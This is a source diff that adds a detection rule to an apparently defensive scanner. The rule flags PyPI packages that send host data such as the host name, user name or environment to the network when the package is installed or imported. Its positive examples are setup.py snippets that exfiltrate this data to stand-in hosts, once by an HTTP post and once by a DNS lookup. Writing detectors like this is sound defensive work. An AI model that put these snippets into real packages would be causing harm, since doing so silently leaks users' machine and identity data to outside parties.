@@ -1,0 +1,61 @@
+import { defineRule } from '../types.js';
+import type { PyPackage, PyReport } from '../../analysis/python/model.js';
+import { triggerOf } from '../../analysis/python/model.js';
+import { at, isAuto, when } from './util.js';
+import type { Dest } from '../../analysis/python/values.js';
+import { isHostileDest } from '../../analysis/python/values.js';
+
+function destText(d: Dest | undefined): string {
+  return d === undefined ? 'a computed destination' : `${d.host || d.raw} (${d.cls}${d.obfuscated ? ', hidden' : ''})`;
+}
+
+export const hostDataExfiltration = defineRule<PyPackage, PyReport>({
+  meta: {
+    id: 'py/host-data-exfiltration',
+    kind: 'threat',
+    category: 'exfiltration',
+    severity: 'critical',
+    confidence: 'high',
+    ecosystems: ['pypi'],
+    description: 'Sends host data (host name, user name, working directory, IP, environment) to the network when installed or imported.',
+    details: 'The shape of dependency-confusion probes and of the first stage of many stealers. Flows are tracked through variables, containers, formatting and function calls.',
+    examples: {
+      positive: [
+        { files: { 'setup.py': "import socket, getpass, requests\nd = {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.post('https://collect.invalid/x', json=d)\n" } },
+        { files: { 'setup.py': "import os, socket\nsocket.gethostbyname(os.getlogin() + '.probe.invalid')\n" } },
+      ],
+      negative: [
+        { files: { 'setup.py': "import platform\nfrom setuptools import setup\nsetup(name='x', version=platform.python_version())\n" } },
+        { files: { 'pkg/client.py': "import socket, requests\ndef ping(url):\n    return requests.get(url, headers={'X-Host': socket.gethostname()})\n" }, note: 'call-time telemetry to a caller-chosen URL' },
+      ],
+    },
+  },
+  check(pkg, report) {
+    for (const file of pkg.files) {
+      for (const s of file.facts.sinks) {
+        const recon = s.sources.filter((l) => l.startsWith('recon:') || l === 'env:*');
+        if (recon.length === 0) continue;
+        if (s.dest?.cls === 'local' || s.dest?.cls === 'vendor') continue;
+        const loc = at(file, s);
+        if (!isAuto(loc.trigger) && !isHostileDest(s.dest)) continue;
+        if (s.dest === undefined && !isAuto(loc.trigger)) continue;
+        const severity = isAuto(loc.trigger) ? (s.dest === undefined || s.dest.cls === 'dynamic' ? 'high' : 'critical') : 'high';
+        report({ ...loc, severity, message: `Sends ${recon.join(', ')} to ${destText(s.dest)} via ${s.via} ${when(loc.trigger)}.`, data: { sources: recon, destination: s.dest?.host } });
+      }
+    }
+    for (const f of pkg.flows) {
+      const recon = f.sources.filter((l) => l.startsWith('recon:') || l === 'env:*');
+      if (recon.length === 0 || f.sink.dest?.cls === 'local' || f.sink.dest?.cls === 'vendor') continue;
+      const trigger = triggerOf(f.file, f.ev);
+      if (!isAuto(trigger) && !isHostileDest(f.sink.dest)) continue;
+      report({
+        path: f.file.path,
+        line: f.ev.line,
+        col: f.ev.col,
+        trigger,
+        severity: isAuto(trigger) && f.sink.dest !== undefined ? 'critical' : 'high',
+        message: `Passes ${recon.join(', ')} to ${f.callee}(), which sends it to ${destText(f.sink.dest)} (${f.sinkFile}:${f.sink.line}) ${when(trigger)}.`,
+      });
+    }
+  },
+});
